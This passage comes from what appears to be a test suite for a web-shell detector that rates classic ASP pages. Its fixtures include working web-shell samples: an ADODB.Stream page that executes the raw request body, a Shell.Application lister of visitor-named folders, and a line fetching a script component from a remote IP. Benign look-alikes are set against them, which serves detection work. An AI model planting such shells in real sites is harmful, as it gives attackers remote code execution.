    const page = `<%
szCMD = Request.Form("text")
if (szCMD <> "") then
set shell = server.createobject("shell.application")
set fod1 = shell.namespace(szcmd)
for each co in fod1.items
response.write co.path & " " & co.size & "<br>"
next
end if
%>`;
    expect(judge('/inetpub/wwwroot/sa.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/folders the visitor names through Shell\.Application/),
    });
    // The page's own folder, opened the same way.
    const own = page.replace('shell.namespace(szcmd)', 'shell.namespace(Server.MapPath("/files"))');
    expect(judge('/inetpub/wwwroot/sa.asp', own)?.severity ?? 'info').not.toMatch(/high|critical/);
  });

  it('leaves an upload manager deleting within its own folder alone', () => {
    const page = `<%
path = "/userfiles" & Replace(Request.Form("path"), "..", "")
Set fso = CreateObject("Scripting.FileSystemObject")
If Request("filename") <> "" Then fso.DeleteFile(Server.MapPath(path & "\\" & Request("filename")))
Set folder = fso.GetFolder(Server.MapPath("" & path & "\\"))
For Each f In folder.Files: Response.Write f.Name: Next
%>`;
    expect(judge('/inetpub/wwwroot/admin_upfile.asp', page)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });
});

describe('classic ASP: the request read back from a stream', () => {
  it('follows the request into an ADODB.Stream and out of it into Execute, not into a saved upload', () => {
    const shell = `<%
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.Position = 0 : s.Type = 2 : s.Charset = "gb2312"
Execute s.ReadText
%>`;
    expect(judge('/inetpub/wwwroot/s.asp', shell)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/running the request as code/),
    });
    const upload = `<%
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.SaveToFile Server.MapPath("uploads/" & Year(Now) & Second(Now) & ".jpg"), 2
%>`;
    expect(judge('/inetpub/wwwroot/up.asp', upload)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
    // A configuration object's own Write(key, value) is no stream (Z-Blog's YTBuild plugin).
    const config = `<%
For Each k In Request.Form
  Call BlogConfig.Write(k, Request.Form(k))
Next
a = "Version"
Call Execute("Call BlogConfig.Write(""" & a & """, " & a & ")")
%>`;
    expect(judge('/inetpub/wwwroot/YT.Config.asp', config)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });
});

describe('classic ASP: pages and components run by name', () => {
  it('leaves pages run by the name the request gives alone: applications route and redirect so', () => {
    // Server.Execute(Request("p")) is a shell's form too, but an image redirect and a plugin
    // loader of the tuning side's applications are written the same way (issue 27).
    for (const page of [
      '<% Server.Execute(Request("p")) %>',
      `<% l = Request.QueryString("l")
If oFs.FileExists(Server.MapPath("/") & l) Then Server.Transfer l %>`,
      '<% Server.Execute("pages/" & Request.QueryString("view") & ".asp") %>',
    ])
      expect(judge('/inetpub/wwwroot/default.asp', page)?.severity ?? 'info').not.toMatch(
        /high|critical/,
      );
  });

  it('ranks a script component fetched from a URL critical, with or without the request', () => {
    const page = '<% Set o = GetObject("script:http://203.0.113.7/x.sct") %>';
    expect(judge('/inetpub/wwwroot/c.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/script component it fetches from a URL/),
    });
    // A directory moniker is no script.
    const ldap = '<% Set u = GetObject("LDAP://CN=" & Request("u") & ",DC=corp") %>';
    expect(judge('/inetpub/wwwroot/u.asp', ldap)?.severity ?? 'info').not.toMatch(/critical/);
  });
});

describe('classic ASP: SQL the page runs', () => {
  it("leaves an application's query holding a request value", () => {
    const page =
      '<% id = Trim(Request("id"))\nset conn = Server.CreateObject("adodb.connection")\nconn.open Application("dsn")\nsql = "DELETE FROM items WHERE id=" & CLng(id)\nconn.execute sql %>';
    expect(judge('/inetpub/wwwroot/del.asp', page)?.reason ?? '').not.toMatch(
      /SQL the visitor types/,
    );
  });
});
